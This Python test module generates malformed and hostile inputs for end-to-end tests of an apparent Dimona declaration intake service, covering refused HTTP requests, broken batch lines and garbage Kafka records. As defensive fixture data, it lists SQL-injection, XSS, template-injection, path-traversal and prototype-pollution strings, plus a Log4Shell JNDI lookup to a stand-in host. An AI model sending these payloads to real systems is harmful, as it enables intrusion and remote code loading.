"""Malformed and hostile inputs for the end-to-end tests, drawn from a seeded `random.Random`:
bodies and batch-file lines that are not declarations (each broken in its own way), HTTP
requests that must be refused, and Kafka records that are not events."""

from __future__ import annotations

import copy
import json
import random
from collections.abc import Callable
from dataclasses import dataclass, field

from aiokafka.partitioner import DefaultPartitioner

GOOD = {"employer": {"employerId": 175110801}, "worker": {"ssin": "85073003328"},
        "dimonaIn": {"startDate": "2030-01-07", "startHour": "0800", "endDate": "2030-01-07",
                     "endHour": "1400",
                     "features": {"jointCommissionNumber": "XXX", "workerType": "OTH"}},
        "references": {"employer": "payroll-42", "declaration": "shift-991"}}
GOOD_MULTI = {"employer": {"employerId": 175110801},
              "features": {"jointCommissionNumber": "XXX", "workerType": "OTH"},
              "days": [{"date": "2030-01-07", "startHour": "0800", "endHour": "1400"}],
              "workers": [{"ssin": "85073003328"}]}
HOSTILE = ["'; DROP TABLE intake.submissions; --", "1 OR 1=1", "<script>alert(1)</script>",
           "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../etc/passwd", "%00%0a",
           "Robert'); DROP TABLE students;--", "\x1b[31mred\x1b[0m", "\u202egnp.exe", "\u0000",
           "\ud800", "NaN", "-1", "0x1F", " 85073003328", "null"]
# Fields with a pattern or a type that none of HOSTILE satisfies, and required fields.
PATTERNED = [("worker", "ssin"), ("dimonaIn", "startHour"), ("dimonaIn", "endHour"),
             ("dimonaIn", "features", "jointCommissionNumber"),
             ("dimonaIn", "features", "workerType"), ("dimonaIn", "startDate"),
             ("dimonaIn", "endDate"), ("employer", "employerId")]
REQUIRED = [("employer",), ("worker",), ("dimonaIn",), ("dimonaIn", "startDate"),
            ("dimonaIn", "features"), ("dimonaIn", "features", "jointCommissionNumber"),
            ("dimonaIn", "features", "workerType"), ("employer", "employerId")]
TEXTS = [("references", "employer"), ("references", "declaration"), ("worker", "familyName")]
OBJECTS = [(), ("employer",), ("worker",), ("dimonaIn",), ("dimonaIn", "features"),
           ("references",)]
BAD_DATES = ["2026-02-30", "2026-13-01", "2026-00-10", "2026/07/08", "", "tomorrow",
             "0000-01-01", "2026-02-29", "08-07-2026", "2026-07-08 garbage", "2026-7-8"]
BAD_HOURS = ["2400", "0860", "8", "08:00", "-100", "abcd", "", "1260", "99999", "0800 "]
NEVER_SCALAR = [{}, {"$ne": None}, [], [1, 2], {"__proto__": {"admin": True}}]
UNKNOWN_KEYS = ["__proto__", "constructor", "$where", "colour", "employerID", "<script>",
                "'; --", "\u0000", "a" * 300, "dimonaIn ", "DimonaIn"]


def _at(body: dict, path: tuple) -> tuple[dict, str]:
    """The object holding the last key of `path`, and that key."""
    for key in path[:-1]:
        body = body[key]
    return body, path[-1]


def _set(path: tuple, value) -> Callable[[random.Random], dict]:
    def make(_: random.Random) -> dict:
        body = copy.deepcopy(GOOD)
        holder, key = _at(body, path)
        holder[key] = value
        return body
    return make


def wrong_value(rng: random.Random) -> dict:
    """A field with a value of the wrong type or outside its pattern."""
    path = rng.choice(PATTERNED)
    name = path[-1]
    pool = BAD_DATES if name.endswith("Date") else BAD_HOURS if name.endswith("Hour") else []
    value = rng.choice(pool + HOSTILE + NEVER_SCALAR + [1.5, -7, 1e400, 2**64])
    if name == "employerId" and (isinstance(value, str) or value == 2**64):
        value = [value]  # a string of digits is a number to pydantic; any size is an id
    return _set(path, value)(rng)


def missing_field(rng: random.Random) -> dict:
    body = copy.deepcopy(GOOD)
    holder, key = _at(body, rng.choice(REQUIRED))
    if rng.random() < 0.5:
        del holder[key]
    else:
        holder[key] = None
    return body


def wrong_object(rng: random.Random) -> dict:
    """An object (employer, worker, dimonaIn...) that is a string, a number or a list."""
    path = rng.choice(OBJECTS[1:])
    return _set(path, rng.choice(["x", 0, [], [GOOD], True, "".join(HOSTILE)]))(rng)


def unknown_key(rng: random.Random) -> dict:
    body = copy.deepcopy(GOOD)
    holder = body
    for key in rng.choice(OBJECTS):
        holder = holder[key]
    holder[rng.choice(UNKNOWN_KEYS)] = rng.choice([1, "x", None, {}, HOSTILE[0]])
    return body


def huge_text(rng: random.Random) -> dict:
    """A free-text field over its 200 characters (up to 20,000)."""
    return _set(rng.choice(TEXTS), rng.choice("xé€😀") * rng.randrange(201, 20_000))(rng)


def nul_or_surrogate(rng: random.Random) -> dict:
    text = "abc" + rng.choice(["\u0000", "\ud800", "\udfff", "x\u0000y"])
    return _set(rng.choice(TEXTS + [("worker", "ssin")]), text)(rng)


def two_kinds_or_none(rng: random.Random) -> dict:
    body = copy.deepcopy(GOOD)
    if rng.random() < 0.5:
        del body["dimonaIn"]
    else:
        body[rng.choice(["dimonaOut", "dimonaUpdate", "dimonaCancel"])] = {
            "periodId": 680725377630, "endDate": "2030-02-01"}
    return body


def bad_number(rng: random.Random) -> dict:
    """Period numbers past bigint, negative, fractional; planned hours that are text."""
    kind = rng.choice(["dimonaOut", "dimonaUpdate", "dimonaCancel"])
    return {kind: {"periodId": rng.choice([2**63, -1, 1.5, "abc", 10**100, None]),
                   "endDate": "2030-02-01"}}


DECLARATIONS = [wrong_value, missing_field, wrong_object, unknown_key, huge_text,
                nul_or_surrogate, two_kinds_or_none, bad_number]


def bad_declaration(rng: random.Random) -> str:
    """A JSON declaration with one thing wrong (json.dumps: never a raw line break)."""
    return json.dumps(rng.choice(DECLARATIONS)(rng))


def truncated(rng: random.Random) -> str:
    text = json.dumps(GOOD)
    return text[:rng.randrange(1, len(text) - 1)]


def not_json(rng: random.Random) -> str:
    """Random characters (control characters, scripts, emoji; no line break), or JSON-like
    text that is not JSON."""
    if rng.random() < 0.3:
        text = json.dumps(GOOD)
        return rng.choice([text.replace('"', "'"), text[:-1] + ",}", "// c\n"[:4] + text,
                           text.replace(":", "=", 1), text + text, "{" + text])
    alphabet = "{}[]\":,0123456789abcxyz \t\x00\x01\x1b\\éç€😀\u2028\u0085"
    return "".join(rng.choice(alphabet) for _ in range(rng.randrange(1, 300)))


def raw_nul(rng: random.Random) -> str:
    """A NUL character in the raw text, inside a string or outside."""
    text = json.dumps(GOOD)
    at = rng.randrange(1, len(text))
    return text[:at] + "\x00" + text[at:]


def deep(rng: random.Random) -> str:
    depth = rng.randrange(200, 20_000)
    if rng.random() < 0.5:
        return '{"employer": ' + "[" * depth + "]" * depth + "}"
    return '{"worker": ' + '{"a": ' * depth + "1" + "}" * depth + "}"


def bad_multi(rng: random.Random) -> str:
    """A Multi-Dimona: not a declaration on /declarations or in a file, and broken too."""
    body = copy.deepcopy(GOOD_MULTI)
    choice = rng.randrange(5)
    if choice == 0:
        body["days"] = []
    elif choice == 1:
        body["workers"] = [{"ssin": "85073003328"}] * 101
        body["days"] = [{"date": "2030-01-07"}] * 100  # 10,100 declarations: too many
    elif choice == 2:
        body["days"] = [{"date": "2030-01-07", "startDate": "2030-01-08"}]
    elif choice == 3:
        body["workers"] = rng.choice(["85073003328", [None], [[]], {}])
    else:
        body["days"] = [{"date": rng.choice(BAD_DATES)}]
    return json.dumps(body)


LINES = [(bad_declaration, 10), (truncated, 2), (not_json, 2), (raw_nul, 1), (deep, 1),
         (bad_multi, 1), (lambda rng: rng.choice(["", " ", "\t", "\ufeff"]), 1)]


def bad_line(rng: random.Random) -> str:
    """One line of a batch file that is not a declaration."""
    makers, weights = zip(*LINES, strict=True)
    return rng.choices(makers, weights)[0](rng)


@dataclass
class Request:
    """An HTTP request that must be refused with `status` and a problem body."""
    path: str
    body: bytes
    status: int
    headers: dict[str, str] = field(default_factory=dict)
    channel: str = "rest"  # the channel GET /metrics counts its refusal under


JSON = {"Content-Type": "application/json"}


def rest_requests(rng: random.Random, count: int, tokens: dict[str, str]) -> list[Request]:
    """`count` refused requests on the REST and batch routes. `tokens`: kroon, auditor,
    secretariat (bearer tokens of the example directory)."""
    kroon = {"Authorization": f"Bearer {tokens['kroon']}", **JSON}
    good = json.dumps(GOOD).encode()
    parc_in = json.dumps({**GOOD, "employer": {"employerId": 197100119}}).encode()
    secretariat = {"Authorization": f"Bearer {tokens['secretariat']}"}

    def declaration() -> Request:
        return Request("/declarations", bad_line(rng).encode(), 400, kroon)

    def multi() -> Request:
        return Request("/multi-dimona", bad_multi(rng).encode(), 400, kroon)

    def not_utf8() -> Request:
        at = rng.randrange(1, len(good))
        junk = rng.choice([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\x80\x80", b"\xf8"])
        return Request("/declarations", good[:at] + junk + good[at:], 400, kroon)

    def content_type() -> Request:
        kind = rng.choice(["text/plain", "application/x-www-form-urlencoded", "image/png",
                           "multipart/form-data; boundary=x", "application/xml", ""])
        return Request("/declarations", good, 400, {**kroon, "Content-Type": kind})

    def bad_token() -> Request:
        value = rng.choice([f"Bearer {rng.getrandbits(128):x}", "Basic abc", "Bearer",
                            "Bearer ' OR '1'='1", f"Bearer {'x' * 4000}", "Digest a=b"])
        return Request("/declarations", good, 401, {"Authorization": value, **JSON})

    def forbidden() -> Request:
        if rng.random() < 0.5:
            return Request("/declarations", parc_in, 403, kroon)
        return Request("/declarations", good, 403,
                       {"Authorization": f"Bearer {tokens['auditor']}", **JSON})

    def idempotency_key() -> Request:
        return Request("/declarations", good, 400, {**kroon, "Idempotency-Key": "k" * 300})

    def oversized() -> Request:
        body = b'{"references": {"employer": "' + b"x" * (1 << 20) + b'"}}'
        return Request(rng.choice(["/declarations", "/multi-dimona"]), body, 413, kroon)

    def bad_file() -> Request:
        name = {"X-File-Name": f"hostile-{rng.getrandbits(40)}.jsonl"}
        body, status, headers = rng.choice([
            ("Café\n".encode("latin-1"), 400, {**secretariat, **name}),
            (b"", 400, {**secretariat, **name}), (b" \n\n\t\n", 400, {**secretariat, **name}),
            (good, 400, secretariat), (good, 400, {**secretariat, "X-File-Name": "x" * 300}),
            (good, 401, name), (good, 401, {"Authorization": f"Bearer {tokens['auditor']}",
                                            **name})])
        return Request("/batches", body, status, headers, "batch")

    kinds = [(declaration, 700), (multi, 100), (not_utf8, 40), (content_type, 40),
             (bad_token, 40), (forbidden, 20), (idempotency_key, 10), (oversized, 1),
             (bad_file, 20)]
    makers, weights = zip(*kinds, strict=True)
    requests = [rng.choices(makers, weights)[0]() for _ in range(count - 6)]
    return requests + [oversized() for _ in range(6)]  # a few, not hundreds of megabytes


def garbage_records(rng: random.Random, count: int) -> list[tuple[bytes | None, list]]:
    """(value, headers) of Kafka records that are not events of any topic: no value, not
    UTF-8, NUL, nested too deep, the wrong shape, an event with a field broken, with headers
    that are not UTF-8 or a content-type that lies."""
    event = {"event_id": "6f1c1e4e-7a5f-4a8e-9a39-1f1f1f1f1f1f", "occurred_at": "2030-01-07",
             "schema_version": 1, "correlation_id": "x", "declaration_id": "not a number",
             "employer_key": "175110801"}
    values = [None, b"", b"\xff\xfe\xfd", b"\x00" * 64, b"[" * 50_000, b"null", b"42",
              b'"a string"', b"{}", json.dumps(GOOD).encode(), json.dumps(event).encode(),
              b'{"event_id": "\\u0000"}', json.dumps(event).encode()[:-7],
              "é".encode("latin-1") * 10, b"x" * 200_000]
    headers = [[], [("content-type", b"application/json")], [("content-type", b"text/plain")],
               [("x-hostile", b"\xff\xfe")], [("x-null", None)], [("\u00e9", b"\x00")]]
    return [(rng.choice(values) if i >= len(values) else values[i], rng.choice(headers))
            for i in range(count)]


def employers_on_every_partition(partitions: int, rng: random.Random) -> list[int]:
    """NSSO numbers whose Kafka key falls on each partition (the example directory's two,
    then made-up ones, unknown to the directory: their declarations are refused, 00xx-235)."""
    found: dict[int, int] = {}
    candidates = [175110801, 197100119] + [rng.randrange(100_000_000, 999_999_999)
                                           for _ in range(200)]
    for employer in candidates:
        found.setdefault(DefaultPartitioner()(str(employer).encode(), list(range(partitions)),
                                              list(range(partitions))), employer)
    assert len(found) == partitions
    return [found[p] for p in range(partitions)]
